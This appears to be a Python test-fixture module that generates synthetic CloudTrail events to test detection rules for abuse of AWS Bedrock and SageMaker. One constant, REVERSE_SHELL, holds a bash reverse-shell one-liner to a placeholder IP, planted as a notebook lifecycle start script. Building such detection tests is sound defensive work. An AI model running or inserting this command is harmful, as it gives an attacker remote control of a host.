"""Event sets for the rules about Bedrock and SageMaker."""

from __future__ import annotations

import base64
from typing import Any

from tests.elastic_rules.records import (
    ACCOUNT,
    BOTO3,
    DOC_IP,
    SWEDEN_IP,
    Client,
    EventSets,
    Ids,
    assumed_role,
    aws_cli,
    event,
    iam_user,
)

Record = dict[str, Any]

MODEL = "anthropic.claude-3-haiku-20240307-v1:0"
BEDROCK_UA = "Boto3/1.35.36 md/Botocore#1.35.36 ua/2.0 os/linux#6.8 Botocore/1.35.36"


def bedrock_high_frequency_inference_api_probing() -> EventSets:
    """500 successful inference calls on one model by one key within 17 minutes.

    Negative flips `event.outcome == "success"` on one call (throttled): 499 successes, fewer
    than 500.
    """

    def events(throttled: int | None) -> list[Record]:
        ids = Ids("5a07")
        client = Client(
            iam_user("genai-sandbox", "AKIA3GENAISANDBOX001", principal="AIDA3GENAISANDBOXEXM"),
            SWEDEN_IP,
            BEDROCK_UA,
        )
        records = []
        for n in range(500):
            seconds = 15 * 3600 + 2 * n
            at = f"{seconds // 3600:02d}:{seconds // 60 % 60:02d}:{seconds % 60:02d}"
            records.append(
                event(
                    ids,
                    client,
                    at=at,
                    source="bedrock.amazonaws.com",
                    name="InvokeModel" if n % 2 == 0 else "Converse",
                    request={"modelId": MODEL},
                    error=("ThrottlingException", "Too many requests, please wait.")
                    if n == throttled
                    else None,
                    read_only=True,
                )
            )
        return records

    return EventSets(events(None), events(250))


def _delete_guardrail(ids: Ids, bearer: bool) -> Record:
    client = Client(
        iam_user("BedrockAPIKey-7q2m", "ABSK7Q2MEXAMPLEKEY01", principal="AIDA7Q2MBEDROCKAPIKY"),
        SWEDEN_IP,
        aws_cli("bedrock.delete-guardrail"),
    )
    return event(
        ids,
        client,
        at="23:31:02",
        source="bedrock.amazonaws.com",
        name="DeleteGuardrail",
        request={"guardrailIdentifier": "gr-3k9x2m1p7q4z"},
        additional={"callWithBearerToken": bearer},
        tls_host="bedrock.us-east-1.amazonaws.com",
    )


def bedrock_api_key_destructive_action() -> EventSets:
    """A Bedrock API key (bearer token) deletes a guardrail.

    Negative flips `callWithBearerToken=true`: the same call signed without a bearer token.
    """
    return EventSets(
        [_delete_guardrail(Ids("5a09"), True)], [_delete_guardrail(Ids("5a09"), False)]
    )


REVERSE_SHELL = "#!/bin/bash\nset -e\nnohup bash -i >& /dev/tcp/198.51.100.77/4444 0>&1 &\n"
BENIGN_SCRIPT = "#!/bin/bash\nset -e\nsudo -u ec2-user -i pip install --quiet pandas==2.2.3\n"


def _lifecycle_config(ids: Ids, script: str) -> Record:
    client = Client(
        assumed_role(
            "DataScienceRole",
            "kpatel",
            "ASIA5DATASCIENCEKP01",
            role_id="AROA5DATASCIENCEEXMP",
            issued="2026-05-12T17:02:44Z",
        ),
        SWEDEN_IP,
        aws_cli("sagemaker.create-notebook-instance-lifecycle-config"),
    )
    name = "nb-bootstrap"
    return event(
        ids,
        client,
        at="17:20:13",
        source="sagemaker.amazonaws.com",
        name="CreateNotebookInstanceLifecycleConfig",
        request={
            "notebookInstanceLifecycleConfigName": name,
            "onStart": [{"content": base64.b64encode(script.encode()).decode()}],
        },
        response={
            "notebookInstanceLifecycleConfigArn": (
                f"arn:aws:sagemaker:us-east-1:{ACCOUNT}:notebook-instance-lifecycle-config/{name}"
            )
        },
        tls_host="api.sagemaker.us-east-1.amazonaws.com",
    )


def sagemaker_lifecycle_config_suspicious_script_content() -> EventSets:
    """A notebook lifecycle configuration whose start script opens a reverse shell.

    Negative flips the script-content match: the script only installs a Python package.
    """
    return EventSets(
        [_lifecycle_config(Ids("5a12"), REVERSE_SHELL)],
        [_lifecycle_config(Ids("5a12"), BENIGN_SCRIPT)],
    )


EXECUTION_ROLE = f"arn:aws:iam::{ACCOUNT}:role/service-role/AmazonSageMaker-ExecutionRole-Prod"


def sagemaker_execution_role_passed_by_unusual_principal() -> EventSets:
    """A CI role passes the production SageMaker execution role to a training and a processing
    job.

    Needs NOW() = 2026-05-12T21:00:00Z. Negative flips `ingested_min >= NOW() - 10 minutes`:
    the same calls happened 20 minutes earlier.
    """

    def events(minute: int) -> list[Record]:
        ids = Ids("5a14")
        client = Client(
            assumed_role(
                "analytics-ci", "build-4471", "ASIA2ANALYTICSCI0001", role_id="AROA2ANALYTICSCIEXMP"
            ),
            DOC_IP,
            BOTO3,
        )
        training = event(
            ids,
            client,
            at=f"20:{minute:02d}:30",
            source="sagemaker.amazonaws.com",
            name="CreateTrainingJob",
            request={
                "trainingJobName": "churn-xgb-20260512",
                "algorithmSpecification": {
                    "trainingImage": (
                        "683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-xgboost:1.7-1"
                    ),
                    "trainingInputMode": "File",
                },
                "roleArn": EXECUTION_ROLE,
                "outputDataConfig": {"s3OutputPath": "s3://acme-ml-artifacts/churn/"},
                "resourceConfig": {
                    "instanceType": "ml.m5.xlarge",
                    "instanceCount": 1,
                    "volumeSizeInGB": 10,
                },
                "stoppingCondition": {"maxRuntimeInSeconds": 3600},
            },
            response={
                "trainingJobArn": (
                    f"arn:aws:sagemaker:us-east-1:{ACCOUNT}:training-job/churn-xgb-20260512"
                )
            },
        )
        processing = event(
            ids,
            client,
            at=f"20:{minute + 1:02d}:10",
            source="sagemaker.amazonaws.com",
            name="CreateProcessingJob",
            request={
                "processingJobName": "churn-features-20260512",
                "processingResources": {
                    "clusterConfig": {
                        "instanceCount": 1,
                        "instanceType": "ml.m5.large",
                        "volumeSizeInGB": 20,
                    }
                },
                "appSpecification": {
                    "imageUri": (
                        "683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-scikit-learn:1.2-1"
                    )
                },
                "roleArn": EXECUTION_ROLE,
            },
            response={
                "processingJobArn": (
                    f"arn:aws:sagemaker:us-east-1:{ACCOUNT}:processing-job/churn-features-20260512"
                )
            },
        )
        return [training, processing]

    return EventSets(events(55), events(35))
